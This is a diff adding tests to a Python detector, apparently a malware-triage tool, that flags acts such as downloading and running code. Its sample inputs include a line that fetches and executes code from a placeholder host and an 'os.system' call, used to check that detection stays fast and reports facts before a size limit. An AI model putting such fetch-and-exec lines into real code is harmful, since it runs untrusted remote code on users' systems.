@@ -1,9 +1,12 @@
 """Data flow in Python: what arrives, and what does not; and nothing breaks it."""
 
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from vedette.core.errors import BadInput
 from vedette.triage.allowance import Allowance
 from vedette.triage.fact import Act, Fact, When
 from vedette.triage.facts.python import facts
@@ -55,6 +58,27 @@ def test_what_is_downloaded_arrives(text: str) -> None:
 )
 def test_what_only_stands_beside_it_does_not(text: str) -> None:
     assert Act.DOWNLOADS not in fed(GET + text, Act.RUNS_CODE)
+
+
+def test_many_lines_of_comments_take_no_longer_than_others() -> None:
+    began = time.process_time()
+    found = read(GET + "# nothing\n" * 40_000 + "exec(r.get('http://x.invalid').text)\n")
+    assert Act.RUNS_CODE in {one.act for one in found}
+    assert time.process_time() - began < 10
+
+
+def test_what_is_not_followed_is_told_after_what_is() -> None:
+    text = "import os\nos.system('id')\n" + "x = 1234567890\n" * 80_000
+    sample = Sample(name="a.py", data=text.encode(), kind=Kind.PYTHON)
+    found: list[Fact] = []
+    with pytest.raises(BadInput, match="only its first"):
+        found.extend(facts(sample, Allowance()))
+    assert Act.RUNS_COMMAND in {one.act for one in found}
+
+
+def test_brackets_in_brackets_are_told() -> None:
+    with pytest.raises(BadInput, match="nested too deeply"):
+        read(f"x = {'(' * 5000}1{')' * 5000}\n")
 
 
 def test_when_it_happens_follows_from_where_it_stands() -> None:
